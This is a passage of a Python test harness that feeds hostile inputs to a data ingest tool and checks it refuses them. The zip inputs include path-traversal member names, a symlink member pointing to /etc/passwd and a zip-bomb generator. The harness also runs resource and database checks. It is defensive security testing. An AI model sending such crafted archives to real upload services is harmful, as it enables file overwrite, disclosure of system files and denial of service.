    g.csv_file("posts.csv", ["external_id", "source", "text"], rows)

    h = c.family("csv-duplicate-columns")
    rows = [(["dc-1", SOURCE, "first text", "second text"], "two text columns (one would be dropped)",
             [REJECTED, REFUSED], {"key": (SOURCE, "dc-1")})]  # fmt: skip
    h.csv_file("text.csv", ["external_id", "source", "text", "text"], rows)
    rows = [(["dc-2", SOURCE, "t", "a", "b"], "two 'tags' columns (one would be dropped)", [REJECTED, REFUSED],
             {"key": (SOURCE, "dc-2")})]  # fmt: skip
    h.csv_file("tags.csv", ["external_id", "source", "text", "tags", "tags"], rows)


# --------------------------------------------------------------------------------------------
# Zip uploads (ingest_upload, as the Ingest page)


def zip_bytes(
    members: list[tuple[str, bytes]], *, method: int = zipfile.ZIP_DEFLATED, link: str | None = None
) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=method) as zf:
        for name, data in members:
            zf.writestr(name, data)
        if link is not None:
            info = zipfile.ZipInfo("link.png")
            info.external_attr = (0o120777 << 16) | 0
            zf.writestr(info, link)
    return out.getvalue()


def patched(data: bytes, *, flag: int = 0, method: int | None = None, corrupt: bool = False) -> bytes:
    """A one-member zip with its headers changed: ``flag`` bits or'ed in (1 = encrypted), the
    compression ``method`` replaced, or the first compressed bytes made invalid."""
    buf = bytearray(data)
    local = buf.index(b"PK\x03\x04")
    central = buf.index(b"PK\x01\x02")
    if flag:
        buf[local + 6] |= flag
        buf[central + 8] |= flag
    if method is not None:
        buf[local + 8 : local + 10] = struct.pack("<H", method)
        buf[central + 10 : central + 12] = struct.pack("<H", method)
    if corrupt:
        name_len, extra_len = struct.unpack("<HH", buf[local + 26 : local + 30])
        start = local + 30 + name_len + extra_len
        buf[start] = 0xFF  # deflate block type 3: reserved, invalid
    return bytes(buf)


def zip_bomb(mib: int) -> bytes:
    out = io.BytesIO()
    block = b"\0" * 2**20
    with (
        zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("bomb/zeros.png", "w", force_zip64=True) as member,
    ):
        for _ in range(mib):
            member.write(block)
    return out.getvalue()


def zips(c: Corpus, bomb_mib: int) -> None:
    def upload(name: str, files: list[tuple[str, bytes]]) -> Family:
        return c.family(f"zip-{name}", upload=files)

    a, b = c.pic(), c.pic()
    jsonl = "\n".join(json.dumps(rec(f"zip-{i}", t, images=[f"img/{i}.png"])) for i, t in enumerate(["one", "two"]))
    f = upload(
        "valid", [("good.zip", zip_bytes([("posts.jsonl", jsonl.encode()), ("img/0.png", a), ("img/1.png", b)]))]
    )
    f.case("a zip with a JSONL and its images", "posts.jsonl:1", STORED, key=(SOURCE, "zip-0"), text="one", images=[a])
    f.case("a zip with a JSONL and its images", "posts.jsonl:2", STORED, key=(SOURCE, "zip-1"), text="two", images=[b])

    refused = [
        ("traversal", "member '../evil.png'", [("../evil.png", c.pic())]),
        ("absolute", "member '/tmp/evil.png'", [("/tmp/evil.png", c.pic())]),
        ("backslash-traversal", "member '..\\evil.png'", [("..\\evil.png", c.pic())]),
    ]
    for name, what, members in refused:
        f = upload(name, [(f"{name}.zip", zip_bytes(members))])
        f.case(what, name, REFUSED, images=[members[0][1]])
    f = upload("symlink", [("link.zip", zip_bytes([("ok.png", c.pic())], link="/etc/passwd"))])
    f.case("a symlink member", "link", REFUSED)
    f = upload("not-a-zip", [("fake.zip", b"PK\x03\x04 this is not really a zip")])
    f.case("a .zip that is not a zip", "fake", REFUSED)

    plain = zip_bytes([("img/e.png", e := c.pic())], method=zipfile.ZIP_STORED)
    f = upload("encrypted", [("enc.zip", patched(plain, flag=1))])
    f.case("an encrypted member", "img/e.png", [REFUSED, REJECTED], key=(SOURCE, "enc/img/e"), images=[e], loose=True)
    f = upload("unsupported-method", [("meth.zip", patched(plain, method=6))])  # 6: implode
    f.case("compression method 6 (implode)", "img/e.png", [REFUSED, REJECTED], key=(SOURCE, "meth/img/e"), loose=True)
    f = upload("corrupt-deflate", [("bad.zip", patched(zip_bytes([("img/d.png", d := c.pic(size=(200, 200)))]),
                                                        corrupt=True))])  # fmt: skip
    f.case("a corrupt deflate stream", "img/d.png", [REFUSED, REJECTED], key=(SOURCE, "bad/img/d"), images=[d],
           loose=True)  # fmt: skip

    dup_a, dup_b = c.pic(), c.pic()
    line = json.dumps(rec("zip-dup", "which image?", images=["img/x.png"])).encode()
    with_dups = io.BytesIO()
    with zipfile.ZipFile(with_dups, "w") as zf, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name: that is the point
        zf.writestr("posts.jsonl", line)
        zf.writestr("img/x.png", dup_a)
        zf.writestr("img/x.png", dup_b)
    f = upload("duplicate-names", [("dups.zip", with_dups.getvalue())])
    f.case("two members named img/x.png", "posts.jsonl:1", [REFUSED, REJECTED], key=(SOURCE, "zip-dup"))

    inner = zip_bytes([("in.png", c.pic())])
    f = upload("zip-in-zip", [("outer.zip", zip_bytes([("inner.zip", inner)]))])
    f.case("a zip inside the zip (not unpacked)", "inner.zip", REJECTED, key=(SOURCE, "outer/inner"), loose=True)

    f = upload("bomb", [("bomb.zip", zip_bomb(bomb_mib))])
    f.max_unpacked_mib = 64
    f.case(f"zip bomb: {bomb_mib} MiB of zeros in one member", "bomb/zeros.png", [REFUSED, REJECTED], loose=True)


def padding(c: Corpus, n: int) -> None:
    """Payload records (every 8th with its own image), half in JSONL, half in CSV, up to the size asked."""
    if n <= 0:
        return
    f = c.family("padding")
    rows: list[tuple[list[str], str, Iterable[str] | str, dict]] = []
    for i in range(n):
        payload = PAYLOADS[i % len(PAYLOADS)] + f" #{i}"
        pics: list[bytes] = []
        names: list[str] = []
        if i % 8 == 0:
            pics = [c.pic()]
            names = [f"img/{i}.png"]
            f.image(names[0], pics[0])
        if i % 2:
            f.record(f"payload #{i % len(PAYLOADS)}", rec(f"pad-{i}", payload, images=names), STORED, images=pics)
        else:
            rows.append(([f"pad-{i}", SOURCE, payload, ";".join(names)], f"payload #{i % len(PAYLOADS)} (CSV)", STORED,
                         {"key": (SOURCE, f"pad-{i}"), "text": payload, "images": pics}))  # fmt: skip
    f.csv_file("posts.csv", ["external_id", "source", "text", "images"], rows)


# --------------------------------------------------------------------------------------------
# Running and checking


@dataclass
class Run:
    rc: int
    stdout: str
    stderr: str
    seconds: float
    max_rss_mb: float = 0.0
    reasons: dict[str, str] = field(default_factory=dict)  # location → reason
    crashed: str | None = None  # zip uploads: an exception that is not a ReviewError
    unpacked_mib: float = 0.0  # zip uploads: the most the upload's temporary folder held
    refused: str | None = None  # a whole file or upload refused: its message


def run_cli(fam: Family, env: dict[str, str], cwd: Path) -> Run:
    """``python -m review ingest`` on the family's inputs; its peak memory from wait4."""
    args = [sys.executable, "-m", "review", "ingest", "--quiet", *fam.args, *fam.inputs]
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        started = time.perf_counter()
        proc = subprocess.Popen(args, cwd=fam.folder if fam.inputs else cwd, env=env, stdout=out, stderr=err)
        _, status, usage = os.wait4(proc.pid, 0)
        proc.returncode = os.waitstatus_to_exitcode(status)
        seconds = time.perf_counter() - started
        out.seek(0)
        err.seek(0)
        stdout, stderr = out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace")
    run = Run(proc.returncode, stdout, stderr, seconds, usage.ru_maxrss / 1024)
    for line in stderr.split("\n"):
        if line.startswith("rejected "):
            location, _, reason = line[len("rejected ") :].partition(": ")
            run.reasons.setdefault(location, reason)
    errors = [line for line in stderr.split("\n") if line.startswith("error: ")]
    if run.rc == 2 and errors:
        run.refused = errors[0]
    return run


class UnpackWatch:
    """The most bytes the uploads' temporary folders (``review-upload-*``) held, polled every 20 ms."""

    def __init__(self) -> None:
        self.most = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._poll, daemon=True)

    def _poll(self) -> None:
        tmp = Path(tempfile.gettempdir())
        while not self._stop.wait(0.02):
            total = 0
            for folder in tmp.glob("review-upload-*"):
                for dirpath, _, names in os.walk(folder):
                    for name in names:
                        with contextlib.suppress(OSError):  # a file removed meanwhile
                            total += os.lstat(os.path.join(dirpath, name)).st_size
            self.most = max(self.most, total)

    def __enter__(self) -> UnpackWatch:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()


def run_upload(fam: Family, settings: Settings) -> Run:
    assert fam.upload is not None
    desk = open_desk(settings)
    started = time.perf_counter()
    with UnpackWatch() as watch:
        try:
            report = ingest_upload(desk.sessions, settings, OPERATOR, fam.upload, source=SOURCE)
            run = Run(1 if report.rejected else 0, report.summary(), "", time.perf_counter() - started)
            run.reasons = {r.location: r.reason for r in report.rejected}
        except ReviewError as exc:
            run = Run(2, "", f"error: {exc}", time.perf_counter() - started, refused=str(exc))
        except Exception as exc:  # what the Ingest page would show as a traceback
            run = Run(3, "", f"{type(exc).__name__}: {exc}", time.perf_counter() - started)
            run.crashed = f"{type(exc).__name__}: {exc}"
        finally:
            desk.engine.dispose()
    run.unpacked_mib = watch.most / 2**20
    return run


@dataclass
class Result:
    family: str
    name: str
    ok: bool
    why: str = ""


def stored_post(session: Any, key: tuple[str, str]) -> Post | None:
    return session.scalars(select(Post).where(Post.source == key[0], Post.external_id == key[1])).first()


def media_files(media_dir: Path, data: bytes) -> list[Path]:
    digest = sha(data)
    return list((media_dir / digest[:2] / digest[2:4]).glob(f"{digest}.*"))


def check_run(fam: Family, run: Run) -> Result:
    """The process itself: its exit status, no traceback, no stray or forged line on stderr."""
    problems = []
    if run.rc not in (0, 1, 2):
        problems.append(f"exit status {run.rc}")
    if "Traceback" in run.stderr or run.crashed:
        last = run.crashed or [ln for ln in run.stderr.strip().split("\n") if ln][-2:]
        problems.append(f"traceback ({last})")
    if run.rc == 0 and run.reasons:
        problems.append("exit 0 although records were rejected")
    if run.rc == 1 and not run.reasons:
        problems.append("exit 1 without a rejected record")
    if fam.upload is None:
        stray = [ln for ln in run.stderr.split("\n") if ln and not LOG_LINE.match(ln)]
        if stray and "Traceback" not in run.stderr:
            problems.append(f"{len(stray)} stray or forged stderr lines, e.g. {stray[0][:80]!r}")
        if run.rc == 2 and len([ln for ln in run.stderr.split("\n") if ln.startswith("error: ")]) != 1:
            problems.append("refused without exactly one error line")
    return Result(fam.name, "the run (exit status, traceback, log lines)", not problems, "; ".join(problems))


def find_reason(run: Run, location: str, loose: bool = False) -> str | None:
    """The reason reported for ``location``, also when the location was printed escaped (or, when
    ``loose``, with a prefix such as the zip's name)."""
    as_json = json.dumps(location, ensure_ascii=False)
    for shown in (location, repr(location), repr(location)[1:-1], as_json, as_json[1:-1],
                  location.encode("unicode_escape").decode()):  # fmt: skip
        if run.reasons.get(shown):
            return run.reasons[shown]
    if loose:
        for shown, reason in run.reasons.items():
            if shown.endswith("/" + location) and reason:
                return reason
    file, _, line = location.rpartition(":")
    if file.endswith((".csv", ".tsv")) and line.isdigit():  # the whole file refused at its header row
        return run.reasons.get(f"{file}:1")
    return None


def check_case(case: Case, run: Run, session: Any, media_dir: Path) -> Result:
    post = stored_post(session, case.key) if case.key else None
    outcomes: dict[str, str] = {}  # outcome → why it does not hold ("" = holds)

    if STORED in case.expect:
        outcomes[STORED] = stored_problem(case, post, session, media_dir)
    if REJECTED in case.expect:
        problems = []
        reason = find_reason(run, case.location, case.loose)
        if not reason:
            problems.append(f"no rejection reported for {case.location!r}")
        if case.absent and post is not None:
            problems.append("the record was stored")
        problems += written_files(case, media_dir)
        outcomes[REJECTED] = "; ".join(problems)
    if REFUSED in case.expect:
        problems = []
        if run.refused is None:
            problems.append(f"not refused (exit {run.rc})")
        if case.key and post is not None:
            problems.append("the record was stored")
        problems += written_files(case, media_dir)
        outcomes[REFUSED] = "; ".join(problems)
    if any(v == "" for v in outcomes.values()):
        return Result(case.family, case.name, True)
    why = " | ".join(f"{k}: {v}" for k, v in outcomes.items())
    if post is not None and STORED not in case.expect and case.absent:
        why += f" (kept text {post.text[:40]!r})"
    return Result(case.family, case.name, False, why)


def stored_problem(case: Case, post: Post | None, session: Any, media_dir: Path) -> str:
    if post is None:
        reason = f" (reported: {case.location})" if case.location else ""
        return "not stored" + reason
    problems = []
    if case.text is not None and post.text != case.text:
        problems.append(f"text differs: {post.text[:40]!r} ≠ {case.text[:40]!r}")
    for name, want in case.fields.items():
        if name == "frames":
            got = session.scalar(select(Media.frames).join(PostMedia).where(PostMedia.post_id == post.id))
        else:
            got = getattr(post, name)
        if got != want:
            problems.append(f"{name} is {str(got)[:60]!r}, expected {str(want)[:60]!r}")
    links = session.execute(
        select(Media.sha256, Media.path, Media.thumb_path).join(PostMedia).where(PostMedia.post_id == post.id)
        .order_by(PostMedia.position)
    ).all()  # fmt: skip
    if case.images and [row.sha256 for row in links] != [sha(d) for d in case.images]:
        problems.append(f"{len(links)} images stored, {len(case.images)} expected (or other bytes)")
    for row in links:
        for rel in (row.path, row.thumb_path):
            path = media_dir / rel
            if not path.is_file():
                problems.append(f"media file {rel} missing")
        original = media_dir / row.path
        if original.is_file() and sha(original.read_bytes()) != row.sha256:
            problems.append(f"media file {row.path} does not hold its bytes")
    return "; ".join(problems)


def written_files(case: Case, media_dir: Path) -> list[str]:
    found = [p.name for data in case.images for p in media_files(media_dir, data)]
    return [f"files written for a refused record: {found}"] if found else []


def check_database(
    url: str, media_dir: Path, env: dict[str, str], work: Path, allowed: set[tuple[str, str]]
) -> list[Result]:
    out = []
    engine = make_engine(url)
    try:
        tables = set(inspect(engine).get_table_names())
        missing = set(Base.metadata.tables) - tables
        out.append(Result("database", "every table still exists", not missing, f"missing: {sorted(missing)}"))
        with engine.connect() as conn:
            if engine.dialect.name == "sqlite":
                verdict = conn.exec_driver_sql("PRAGMA integrity_check").scalar()
                out.append(Result("database", "SQLite integrity_check", verdict == "ok", str(verdict)))
                fk = conn.exec_driver_sql("PRAGMA foreign_key_check").all()
                out.append(Result("database", "SQLite foreign_key_check", not fk, f"{len(fk)} violations"))
            else:
                counts = {t: conn.execute(text(f'SELECT count(*) FROM "{t}"')).scalar() for t in Base.metadata.tables}
                out.append(Result("database", "every table readable", all(v is not None for v in counts.values())))
            posts = conn.execute(select(Post.source, Post.external_id)).all()
            extra = {(p.source, p.external_id) for p in posts} - allowed
            out.append(Result("database", "no post stored beyond the expected ones", not extra,
                              f"{len(extra)} unexpected, e.g. {sorted(extra)[:3]}"))  # fmt: skip
            rows = conn.execute(select(Media.path, Media.thumb_path)).all()
            lost = [
                r.path for r in rows if not (media_dir / r.path).is_file() or not (media_dir / r.thumb_path).is_file()
            ]
            out.append(Result("database", "every media row has its files", not lost, f"missing: {lost[:3]}"))
    finally:
        engine.dispose()
    current = subprocess.run([sys.executable, "-m", "review", "db", "current"], cwd=work, env=env,
                             capture_output=True, text=True)  # fmt: skip
    out.append(Result("database", "schema still current", current.returncode == 0, current.stdout + current.stderr))
    clean = work / "clean.jsonl"
    clean.write_text(json.dumps(rec("after-all", "a clean record after the corpus")) + "\n", encoding="utf-8")
    again = subprocess.run([sys.executable, "-m", "review", "ingest", "--quiet", str(clean)], cwd=work, env=env,
                           capture_output=True, text=True)  # fmt: skip
    out.append(Result("database", "a clean ingest still works", again.returncode == 0 and "1 added" in again.stdout,
                      (again.stdout + again.stderr)[-200:]))  # fmt: skip
    return out


# --------------------------------------------------------------------------------------------
# Databases


class Database:
    """The database under test: a temporary SQLite file, the URL given, or a new database on a
    Postgres server (created here and dropped afterwards)."""

    def __init__(self, root: Path, url: str | None, postgres_admin: str | None) -> None:
        self.admin_url = postgres_admin
        self.name: str | None = None
        if postgres_admin:
            self.name = f"hostile_{uuid.uuid4().hex[:10]}"
            admin = create_engine(postgres_admin, isolation_level="AUTOCOMMIT")
            with admin.connect() as conn:
                conn.execute(text(f'CREATE DATABASE "{self.name}"'))
            admin.dispose()
            url = make_url(postgres_admin).set(database=self.name).render_as_string(hide_password=False)
        self.url = url or f"sqlite:///{root / 'review.db'}"

    def drop(self) -> None:
        if self.admin_url and self.name:
            admin = create_engine(self.admin_url, isolation_level="AUTOCOMMIT")
            with admin.connect() as conn:
                conn.execute(text(f'DROP DATABASE IF EXISTS "{self.name}" WITH (FORCE)'))
            admin.dispose()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--records", type=int, default=300, help="pad the corpus to this many records (default 300)")
    parser.add_argument("--full", action="store_true", help=f"the issue's size: {FULL_RECORDS} records")
    parser.add_argument("--database-url", help="an empty database to ingest into (default: a temporary SQLite file)")
    parser.add_argument("--postgres-url", help="a Postgres server URL: a new database is created there and dropped")
    parser.add_argument("--bomb-mib", type=int, default=1024, help="uncompressed size of the zip bomb (default 1024)")
    parser.add_argument("--keep", action="store_true", help="keep the corpus, database and media folder")
    parser.add_argument("--only", action="append", help="run only the families whose name starts with this")
    args = parser.parse_args()
    records = FULL_RECORDS if args.full else args.records

    root = Path(tempfile.mkdtemp(prefix="hostile-"))
    db = Database(root, args.database_url, args.postgres_url)
    media_dir = root / "media"
    work = root / "work"
    work.mkdir()
    try:
        engine = make_engine(db.url)
        schema.upgrade(engine)
        with engine.connect() as conn:
            if conn.execute(select(func.count(Post.id))).scalar():
                raise SystemExit(f"{db.url}: the database already holds posts; give an empty one")
        engine.dispose()
        corpus = Corpus(root / "corpus")
        started = time.perf_counter()
        build(corpus, records, args.bomb_mib)
        families = [f for f in corpus.families if not args.only or any(f.name.startswith(o) for o in args.only)]
        total = sum(len(f.cases) for f in families)
        print(f"corpus: {total} records in {len(families)} families, built in {time.perf_counter() - started:.1f} s "
              f"({root})", flush=True)  # fmt: skip
        env = {**os.environ, "DATABASE_URL": db.url, "MEDIA_DIR": str(media_dir),
               "PYTHONPATH": os.pathsep.join(p for p in (str(REPO), os.environ.get("PYTHONPATH")) if p)}  # fmt: skip
        env.pop("REVIEW_CONFIG", None)
        settings = Settings(database_url=db.url, media_dir=media_dir)
        results: list[Result] = []
        memory: list[str] = []
        baseline_rss = None
        for fam in families:
            run = run_upload(fam, settings) if fam.upload is not None else run_cli(fam, env, work)
            if fam.upload is None:
                baseline_rss = run.max_rss_mb if baseline_rss is None else min(baseline_rss, run.max_rss_mb)
            if fam.measure_memory:
                memory.append(f"{fam.name}: peak RSS {run.max_rss_mb:.0f} MB in {run.seconds:.1f} s")
            results.append(check_run(fam, run))
            if fam.max_unpacked_mib is not None:
                ok = run.unpacked_mib <= fam.max_unpacked_mib
                name = f"at most {fam.max_unpacked_mib} MiB unpacked before refusing"
                results.append(Result(fam.name, name, ok, f"{run.unpacked_mib:.0f} MiB unpacked"))
                memory.append(f"{fam.name}: {run.unpacked_mib:.0f} MiB unpacked in {run.seconds:.1f} s")
            engine = make_engine(db.url)
            with engine.connect() as conn:
                from sqlalchemy.orm import Session

                session = Session(bind=conn)
                results += [check_case(case, run, session, media_dir) for case in fam.cases]
                session.close()
            engine.dispose()
        allowed = {c.key for f in families for c in f.cases if c.key and (STORED in c.expect or not c.absent)}
        results += check_database(db.url, media_dir, env, work, allowed)
        report(results, memory, baseline_rss, time.perf_counter() - started)
        return 1 if any(not r.ok for r in results) else 0
    finally:
        if not args.keep:
            db.drop()
            import shutil

            shutil.rmtree(root, ignore_errors=True)
        else:
            print(f"kept: {root} ({db.url})")


def report(results: list[Result], memory: list[str], baseline_rss: float | None, seconds: float) -> None:
    families: dict[str, list[Result]] = {}
    for r in results:
        families.setdefault(r.family, []).append(r)
    print(f"\n{'family':34} {'tried':>6} {'passed':>7} {'failed':>7}")
    for name, rs in families.items():
        failed = sum(not r.ok for r in rs)
        print(f"{name:34} {len(rs):6} {len(rs) - failed:7} {failed:7}")
    failed = [r for r in results if not r.ok]
    print(f"{'TOTAL':34} {len(results):6} {len(results) - len(failed):7} {len(failed):7}   ({seconds:.0f} s)")
    if memory:
        smallest = f"smallest ingest run {baseline_rss:.0f} MB peak RSS; " if baseline_rss else ""
        print("\nmemory: " + smallest + "; ".join(memory))
    if failed:
        print("\nfailures:")
        for r in failed:
            print(f"  [{r.family}] {r.name}: {r.why[:300]}")


if __name__ == "__main__":
    raise SystemExit(main())
